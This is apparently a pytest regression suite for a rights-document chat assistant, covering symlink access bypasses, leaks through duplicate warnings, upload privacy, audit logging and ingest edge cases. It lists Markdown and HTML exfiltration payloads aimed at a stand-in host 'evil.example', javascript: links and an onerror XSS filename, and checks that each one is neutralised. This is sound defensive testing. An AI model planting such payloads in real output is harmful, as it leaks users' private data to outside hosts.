"""Regression tests for the defects an adversarial test found (access bypasses, exfiltration,
uploads, ingest edge cases). Each test reproduces one reported attack and fails on the code
before its fix; the property tests (test_access_paths.py) cover the families.

Two chat users as in the report: ``sales1`` (group sales) and ``legal1`` (group legal).
"""

from __future__ import annotations

import os
import re
import stat

import pytest
from markdown_it import MarkdownIt
from ollama_fake import Script

from assistant.ops import audit
from assistant.service import RightsService
from assistant.settings import LLMSettings, Settings
from assistant.web.app import ChatSession, answer_markdown, documents_rows
from assistant.web.auth import Users
from assistant.web.inert import inert
from ingest.access import NOBODY
from ingest.pipeline import find_files

pytestmark = pytest.mark.slow

USERS = Users({"sales1": {"password": "-", "groups": ["sales"]}, "legal1": {"password": "-", "groups": ["legal"]},
               "admin": {"password": "-", "groups": ["*"]}})
HR_SECRET = "HR NOTE\n1. Salary. The Head of Rights is paid GBP 91,500 a year.\n2. Codeword. The codeword is HYACINTH-42.\n"
SECRET_SPLITS = "Title,ISWC,Writer,Share\nProject Nightingale Unreleased Duet,T-345.246.800-3,Zephyr Vance,100%\n"
SALES_SPLITS = "Title,ISWC,Writer,Share\nSummer Single,T-345.246.800-3,Ann Lee,100%\n"


def rendered(markdown: str) -> str:
    """What a browser gets from the chat's Markdown (CommonMark, raw HTML on, as Gradio allows)."""
    return MarkdownIt("commonmark", {"html": True}).render(markdown)


_FETCHING = re.compile(r"<(?:img|iframe|script|link|object|embed|video|audio|source|svg|image|input|form|style)\b"
                       r"|<a\s[^>]*href=(?![\"']?#src-\d+[\"'\s>])", re.I)


def fetches(markdown: str) -> bool:
    """Whether rendering ``markdown`` makes an element a browser would fetch or follow (the
    answer's own citation anchors, ``#src-n``, aside)."""
    return bool(_FETCHING.search(rendered(markdown)))


# -- 1. symbolic links -------------------------------------------------------------------------
@pytest.fixture
def linked(tmp_path):
    (tmp_path / "sym" / "restricted").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    secret = tmp_path / "outside" / "hr-secret.txt"
    secret.write_text(HR_SECRET)
    (tmp_path / "sym" / "restricted" / ".access").write_text("legal\n")
    (tmp_path / "sym" / "restricted" / "hr-link.txt").symlink_to(secret)
    (tmp_path / "sym" / "hr-link2.txt").symlink_to(secret)
    (tmp_path / "sym" / "hr-link2.txt.groups").write_text("legal\n")
    return tmp_path


def test_a_link_leaving_the_ingested_folder_is_refused_by_default(linked, settings, embedder):
    with RightsService(settings, embedder=embedder) as svc:
        report = svc.ingest([linked / "sym"])
        refused = {os.path.basename(r.path): r.reason for r in report.problems}
        assert set(refused) == {"hr-link.txt", "hr-link2.txt"}, report.results
        assert all("outside the folder being ingested" in why for why in refused.values())
        assert svc.sources() == []


def test_a_followed_link_takes_the_rules_of_where_it_was_found(linked, tmp_path, embedder):
    settings = Settings(data_dir=tmp_path / "data", ingest_follow_external_links=True)
    with RightsService(settings, embedder=embedder) as svc:
        assert svc.ingest([linked / "sym"]).ok
        (doc,) = svc.sources()  # two links, one file: one document
        assert doc.groups == ["legal"] and doc.file_path == str(linked / "outside" / "hr-secret.txt")
        sales = svc.restricted(USERS.groups("sales1"))
        assert sales.sources() == [] and sales.retrieve("What is the codeword in the HR note?", 5) == []
        legal = svc.restricted(USERS.groups("legal1"))
        assert any("HYACINTH" in h.payload["text"] for h in legal.retrieve("What is the codeword in the HR note?", 5))


def test_a_link_inside_the_folder_keeps_the_targets_restriction(tmp_path, settings, embedder):
    docs = tmp_path / "docs"
    (docs / "legal").mkdir(parents=True)
    (docs / "public").mkdir()
    (docs / "legal" / ".access").write_text("legal")
    (docs / "legal" / "hr.txt").write_text(HR_SECRET)
    (docs / "public" / "hr-shortcut.txt").symlink_to(docs / "legal" / "hr.txt")
    (docs / "public" / "loop").symlink_to(docs)  # a link loop is walked once
    with RightsService(settings, embedder=embedder) as svc:
        assert svc.ingest([docs]).ok
        (doc,) = svc.sources()
        assert doc.groups == ["legal"]
        assert svc.restricted(["sales"]).retrieve("codeword", 5) == []


# -- 2. cross-document warnings ----------------------------------------------------------------
def test_duplicate_identifier_warnings_never_name_a_document_the_viewer_may_not_see(tmp_path, embedder):
    legal = tmp_path / "legal"
    legal.mkdir()
    (legal / "secret-splits.csv").write_text(SECRET_SPLITS)
    (legal / ".access").write_text("legal")
    settings = Settings(data_dir=tmp_path / "data")
    upload = tmp_path / "summer-splits.csv"
    upload.write_text(SALES_SPLITS)
    with RightsService(settings, embedder=embedder) as svc:
        assert svc.ingest([legal]).ok
        session = ChatSession(svc, users=USERS)
        job = session.upload([("summer-splits.csv", upload)], user="sales1")
        assert job.finished.wait(120) and job.report is not None and job.report.ok
        seen_by_sales = [job.summary(), str(documents_rows(session.view("sales1"))),
                         *(h.payload["text"] + str(h.payload.get("warnings")) for h in session.view("sales1").store.all_chunks())]
        assert not any("Nightingale" in t or "secret-splits" in t for t in seen_by_sales), seen_by_sales
        # The sales view of the record shows no cross warning; the administrator's shows both sides.
        hit = session.view("sales1").retrieve("T3452468003", 1)[0]
        assert session.view("sales1").duplicate_warnings([hit.payload]) == [[]]
        admin = documents_rows(session.view("admin"))
        assert any("duplicate ISWC T3452468003: also 'Project Nightingale Unreleased Duet'" in row[6] for row in admin), admin
        assert any("also 'Summer Single'" in row[6] for row in admin)
        # The operator running `rights ingest` sees everything, so its report names both.
        again = svc.ingest([legal, upload])
        (mine,) = [r for r in again.results if r.status == "new"]
        assert any("also 'Project Nightingale Unreleased Duet' in secret-splits.csv" in w for w in mine.warnings), mine


# -- 3/4. nothing from a document or a model makes the browser fetch ---------------------------
ATTACKS = [
    "![chart][r]\n\n[r]: //evil.example/x.png?q=secret",
    "![w](http://evil.example/a.png)",
    "<img src=http://evil.example/b.png>",
    "[click](javascript:alert(1))",
    "<http://evil.example/auto>",
    "see http://evil.example/p?q=1 and www.evil.example",
    "[r]: http://evil.example/ref\n![x][r]",
    "<a href='//evil.example'>x</a>",
    "$$\\href{http://evil.example}{x}$$",
    "`code` then ![a](data:image/png;base64,AAAA)",
]
# Not links to markdown-it's CommonMark, but to other renderers (GFM autolinks, maths, lax
# link validation): inert must neutralise them all the same.
NOT_RENDERED_BY_COMMONMARK = {ATTACKS[3], ATTACKS[5], ATTACKS[8], ATTACKS[9]}


@pytest.mark.parametrize("attack", ATTACKS)
def test_inert_markdown_renders_no_link_image_or_html(attack):
    assert fetches(attack) or attack in NOT_RENDERED_BY_COMMONMARK  # the attack is real Markdown
    assert not fetches(inert(attack)), rendered(inert(attack))


def test_a_streamed_draft_never_renders_a_reference_image(demo_data, embedder, fake):
    settings = Settings(data_dir=demo_data, llm=LLMSettings(backend="ollama", ollama_host=fake.url))
    fake.script = Script(reply="The fee is 20% ![chart][r] [1].\n\n[r]: //evil.example/x.png?q=MERIDIAN-SECRET\n")
    with RightsService(settings, embedder=embedder) as svc:
        steps = list(ChatSession(svc).respond("What distribution fee does Meridian charge?", []))
    streamed = [turns[-1]["content"] for turns, _ in steps if turns and turns[-1]["role"] == "assistant"]
    assert any("evil" in t for t in streamed), "the draft was streamed"
    for text in streamed:
        assert not fetches(text), rendered(text)


def test_upload_status_shows_a_planted_cell_as_words(tmp_path, embedder):
    settings = Settings(data_dir=tmp_path / "data")
    planted = tmp_path / "planted.csv"
    planted.write_text("Title,ISWC,Writer,Share\n"
                       "Song A,![w](http://evil.example/a.png),Ann,100%\n"
                       "Song B,<img src=http://evil.example/b.png>,Bo,100%\n")
    with RightsService(settings, embedder=embedder) as svc:
        job = ChatSession(svc).upload([("<img src=x onerror=alert(1)>.csv", planted), ("![n](http://evil.example/n).csv", planted)])
        assert job.finished.wait(120)
        summary = job.summary()
    assert "evil.example" in summary and "invalid ISWC" in summary, summary
    assert not fetches(summary), rendered(summary)


# -- 5. uploads ----------------------------------------------------------------------------------
def test_uploads_are_private_per_user_and_take_the_uploaders_groups(tmp_path, embedder):
    settings = Settings(data_dir=tmp_path / "data")
    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.write_text("SALES MEMO\n1. Target. The sales target is 4,000 units of AURORA-7.\n")
    b.write_text("LEGAL MEMO\n1. Claim. The claim against Vale is settled for 12,000 (LUPIN-3).\n")
    with RightsService(settings, embedder=embedder) as svc:
        session = ChatSession(svc, users=USERS)
        first = session.upload([("memo.txt", a)], user="sales1")
        assert first.finished.wait(120)
        second = session.upload([("memo.txt", b)], user="legal1")  # same name, same day
        assert second.finished.wait(120)
        docs = {d.file_path: d for d in svc.sources()}
        assert len(docs) == 2, docs  # nothing overwritten
        assert sorted(d.groups for d in docs.values()) == [["legal"], ["sales"]]
        assert all(open(p).read() in (a.read_text(), b.read_text()) for p in docs)
        for path in docs:
            assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
            assert stat.S_IMODE(os.stat(os.path.dirname(path)).st_mode) == 0o700
        sales_text = " ".join(h.payload["text"] for h in session.view("sales1").retrieve("memo claim target", 10))
        assert "AURORA" in sales_text and "LUPIN" not in sales_text
        assert "Visible to: sales" in first.summary()
        from assistant.web.app import Jobs

        jobs = Jobs()
        jobs.put(("sales1", "tab-a"), first)
        assert jobs.get(("legal1", "tab-a")) is None and jobs.get(("sales1", "tab-b")) is None
        assert jobs.get(("sales1", "tab-a")) is first, "an upload job belongs to the browser session that started it"
        # A chosen group must be the uploader's own: anything else falls back to their groups.
        assert session.upload_groups("sales1", ["legal"]) == ["sales"]
        assert session.upload_groups("admin", []) == ["*"]


# -- 8. the audit log ------------------------------------------------------------------------------
def test_oversized_questions_are_refused_before_retrieval_and_audited(demo_data, embedder, fake):
    settings = Settings(data_dir=demo_data, llm=LLMSettings(backend="ollama", ollama_host=fake.url))
    fake.requests.clear()
    with RightsService(settings, embedder=embedder) as svc:
        before = len(list(audit.read(settings.audit_path)))
        for size in (100_000, 2_000_000):
            question = "What is the fee? " + "pad " * (size // 4)
            steps = list(ChatSession(svc).respond(question, []))
            turns, panel = steps[-1]
            assert "too long" in turns[-1]["content"] and "No sources" in panel
            assert all(p is None or "No sources" in p for _, p in steps)
        entries = list(audit.read(settings.audit_path))[before:]
    assert [e["status"] for e in entries] == ["refused", "refused"] and not fake.requests


def test_a_model_failure_after_the_sources_were_shown_is_still_audited(demo_data, embedder, fake):
    settings = Settings(data_dir=demo_data, llm=LLMSettings(backend="ollama", ollama_host=fake.url, retries=0))
    fake.script = Script(reply="The fee is twenty per cent [1].", error_after_tokens=2)
    question = "What distribution fee does Meridian charge? (failure audit)"
    with RightsService(settings, embedder=embedder) as svc:
        steps = list(ChatSession(svc).respond(question, []))
        assert steps[-1][0][-1]["content"].startswith("⚠")
        assert any(p and "src-1" in p for _, p in steps), "the passages were shown"
        entries = [e for e in audit.read(settings.audit_path) if e["question"] == question]
    assert len(entries) == 1 and entries[0]["status"] == "error" and entries[0]["sources"]


def test_an_abandoned_stream_is_audited(demo_data, embedder, fake):
    settings = Settings(data_dir=demo_data, llm=LLMSettings(backend="ollama", ollama_host=fake.url))
    fake.script = Script(reply="The fee is twenty per cent [1].")
    question = "What distribution fee does Meridian charge? (abandoned)"
    with RightsService(settings, embedder=embedder) as svc:
        stream = ChatSession(svc).respond(question, [])
        _, panel = next(stream)  # the sources are on the page; then the browser goes away
        assert panel and "src-1" in panel
        stream.close()
        entries = [e for e in audit.read(settings.audit_path) if e["question"] == question]
    assert len(entries) == 1 and entries[0]["sources"]


# -- 10/11/12/14. ingest edge cases --------------------------------------------------------------
def test_empty_and_comment_only_sidecars_fail_closed_with_a_warning(tmp_path, settings, embedder):
    docs = tmp_path / "docs"
    (docs / "folder").mkdir(parents=True)
    (docs / "a.txt").write_text(HR_SECRET)
    (docs / "a.txt.groups").write_text("")
    (docs / "folder" / ".access").write_text("# legal only, to be filled in\n")
    (docs / "folder" / "b.txt").write_text(HR_SECRET.replace("HYACINTH", "MIMOSA"))
    with RightsService(settings, embedder=embedder) as svc:
        report = svc.ingest([docs])
        assert report.ok
        assert all(any("names no group" in w for w in r.warnings) for r in report.results), report.results
        assert {tuple(d.groups) for d in svc.sources()} == {(NOBODY,)}
        for user in ("sales1", "legal1"):
            view = svc.restricted(USERS.groups(user))
            assert view.sources() == [] and view.retrieve("codeword", 5) == []
        assert len(svc.restricted(USERS.groups("admin")).sources()) == 2
        # No user can claim the administrators-only mark as a group of their own.
        assert svc.restricted([NOBODY]).sources() == []


def test_an_unreadable_access_rule_fails_its_file_not_the_batch(tmp_path, settings, embedder):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "a.txt").write_text(HR_SECRET)
    (docs / "a.txt.groups").mkdir()  # cannot be read as a file (chmod does not stop root)
    (docs / "b.txt").write_text("MEMO\n1. Note. Public memo about the catalogue move.\n")
    with RightsService(settings, embedder=embedder) as svc:
        report = svc.ingest([docs])
        failed = {os.path.basename(r.path): r.reason for r in report.problems}
        assert list(failed) == ["a.txt"] and "cannot read access rule" in failed["a.txt"]
        assert [d.file_name for d in svc.sources()] == ["b.txt"]


def test_deep_folders_unreadable_folders_and_special_files_are_reported(tmp_path, monkeypatch):
    root = tmp_path / "docs"
    deep = root
    for _ in range(1000):  # one level at a time: mkdir(parents=True) itself recurses
        deep = deep / "d"
        deep.mkdir(parents=deep.parent == root)
    (deep / "deep.txt").write_text("x")
    (root / "beside.txt").write_text("x")
    (root / "locked").mkdir()
    (root / "locked" / "hidden.txt").write_text("x")
    os.mkfifo(root / "pipe.txt")
    os.mkfifo(tmp_path / "alone.fifo")
    real_scandir = os.scandir

    def scandir(path):  # root may read any folder: the refusal a non-root user would get
        if os.path.basename(path) == "locked":
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    try:
        found, problems = find_files([root, tmp_path / "alone.fifo", tmp_path / "missing"])
    finally:
        monkeypatch.undo()
        while deep != root:  # pytest's own clean-up (shutil.rmtree) recurses per level: undo it here
            for child in deep.iterdir():
                child.unlink()
            deep.rmdir()
            deep = deep.parent
    names = sorted(f.path.name for f in found)
    assert names == ["beside.txt", "deep.txt"]
    why = {os.path.basename(p.path): p.reason for p in problems}
    assert "cannot read folder" in why["locked"] and "Permission denied" in why["locked"]
    assert why["pipe.txt"].startswith("a FIFO") and why["alone.fifo"].startswith("a FIFO")
    assert why["missing"] == "no such file or folder"


def test_the_final_answer_keeps_its_citation_links(demo_data, embedder):
    from assistant.answer.answering import Answer

    md = answer_markdown(Answer("q", "The fee is 20% [1]; see <b>x</b> [2].", "answered"))
    assert "[[1]](#src-1)" in md and "[[2]](#src-2)" in md and "<b>" not in md
